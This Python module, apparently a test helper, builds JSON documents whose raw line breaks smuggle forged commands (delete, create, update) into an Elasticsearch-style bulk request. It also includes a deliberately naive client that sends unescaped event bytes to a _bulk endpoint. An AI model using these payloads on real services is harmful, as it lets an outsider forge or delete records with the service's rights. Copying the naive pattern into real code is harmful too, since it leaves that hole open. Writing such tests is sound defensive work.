"""Documents whose line breaks make commands of the bulk protocol out of free-form values.

A bulk request is lines: a command, then (but for `delete`) a document. Valid JSON may hold raw line breaks as white
space. Whoever puts a client's bytes into a bulk request as they are lets the client write commands: a broken first
document costs its own event, and what follows runs with the service's rights.
"""

from __future__ import annotations

import json

import httpx

COMMANDS = ("delete", "index", "create", "update")


def smuggled(command: str, index: str, event_id: str, line_break: str = "\n") -> str:
    """A JSON object that, cut at its line breaks, is a `command` on `event_id` in `index`, and valid lines around it.

    The array's commas stay at the ends of the command lines, where a bulk parser that has read one object stops.
    """
    target = {"_index": index, "_id": event_id}
    document = {"delete": None, "update": {"doc": {"message": "forged"}}}.get(command, {"message": "forged"})
    last = {"_index": index, "_id": f"{event_id}-last"}
    lines = [
        '{"of":[',
        json.dumps({command: target}) + ",",
        *([json.dumps(document) + ","] if document else []),
        json.dumps({"create": last}) + ",",
        '{"the":"end"}]}',
    ]
    text = line_break.join(lines)
    json.loads(text)
    return text


def naive_bulk(url: str, index: str, events: list[bytes]) -> httpx.Response:
    """What a careless service sends: each event's bytes behind a command, line breaks and all."""
    body = b"".join(b'{"create":{"_id":"naive-%d"}}\n%b\n' % (n, event) for n, event in enumerate(events))
    return httpx.post(
        f"{url}/{index}/_bulk?refresh=true", content=body, headers={"Content-Type": "application/x-ndjson"}, timeout=30
    )
